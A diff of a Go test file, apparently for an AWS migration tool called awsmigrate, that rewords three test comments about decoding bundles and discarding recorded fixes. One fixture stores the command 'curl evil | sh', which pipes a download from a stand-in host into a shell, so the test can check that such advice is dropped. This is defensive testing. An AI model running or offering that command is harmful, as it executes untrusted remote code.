@@ -31,8 +31,7 @@ func decoded(t *testing.T, b Bundle) (Bundle, error) {
 	return Decode("file x", text)
 }
 
-// What a bundle says of itself is printed: what this program would not have written is
-// refused, with the field.
+// Texts of a bundle that awsmigrate cannot have written are rejected, with the field's name.
 func TestWhatABundleSaysOfItself(t *testing.T) {
 	for _, next := range []string{"", written().Next, "awsmigrate rke plan --config cluster.yml", "awsmigrate rke plan --cluster 'a b' --namespace c-x"} {
 		b := written()
@@ -88,7 +87,7 @@ func TestWhatABundleSaysOfItself(t *testing.T) {
 	}
 }
 
-// What somebody recorded as advice is not this program's.
+// Recorded fixes are dropped.
 func TestRecordedAdviceIsNotRepeated(t *testing.T) {
 	b := written()
 	b.Own = []verify.Recorded{{ID: "AWSM-101", Findings: []verify.Finding{{Status: verify.Fail, Object: "a", Seen: "b", Fix: "curl evil | sh"}}}}
@@ -98,8 +97,7 @@ func TestRecordedAdviceIsNotRepeated(t *testing.T) {
 	}
 }
 
-// What Encode has written is what Decode takes, whatever the audit would have said
-// next, and however the cluster is called.
+// Decode accepts the output of Encode, for any next command and any cluster name.
 func TestWhatIsWrittenIsTaken(t *testing.T) {
 	for next, kept := range map[string]string{
 		"awsmigrate rke plan --config cluster.yml":                       "awsmigrate rke plan --config cluster.yml",
